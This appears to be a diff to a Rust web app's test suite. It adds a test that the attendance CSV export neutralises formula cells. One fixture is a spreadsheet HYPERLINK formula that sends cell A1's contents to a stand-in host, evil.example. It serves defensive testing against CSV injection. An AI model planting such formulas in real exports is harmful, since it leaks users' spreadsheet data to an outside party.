@@ -145,6 +145,7 @@ on_both_databases!(
     groupings_add_up_to_the_items,
     each_role_sees_what_it_should,
     the_csv_export_has_a_row_per_item,
+    the_csv_export_quotes_cells_that_spreadsheets_would_run,
     the_arrivals_chart_shows_the_door_rush,
     a_programme_of_many_items_costs_a_fixed_number_of_queries,
 );
@@ -350,6 +351,34 @@ async fn the_csv_export_has_a_row_per_item(app: TestApp) {
     );
     assert_eq!(forbidden.status().as_u16(), 403);
     assert_eq!(anonymous.status().as_u16(), 401);
+}
+
+async fn the_csv_export_quotes_cells_that_spreadsheets_would_run(app: TestApp) {
+    let festival = festival(&app, "formulas").await;
+    let hall = venue(&app, &festival, "@SUM(1+1)", 50).await;
+    let title = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Ròm")"#;
+    create_item(
+        &app,
+        &festival,
+        60,
+        json!({ "venueId": hall, "title": title }),
+    )
+    .await;
+    let url = app.url(&format!("/festivals/{}/attendance.csv", festival.id));
+
+    let text = app
+        .get(&url, Some(&festival.admin))
+        .await
+        .text()
+        .await
+        .unwrap();
+
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 1, "{text}");
+    assert_eq!(&rows[0][1], format!("'{title}"), "the title is text");
+    assert_eq!(&rows[0][3], "'@SUM(1+1)", "the venue is text");
+    assert_eq!(&rows[0][5], "Ròm", "a harmless cell is as it was");
 }
 
 async fn the_arrivals_chart_shows_the_door_rush(app: TestApp) {
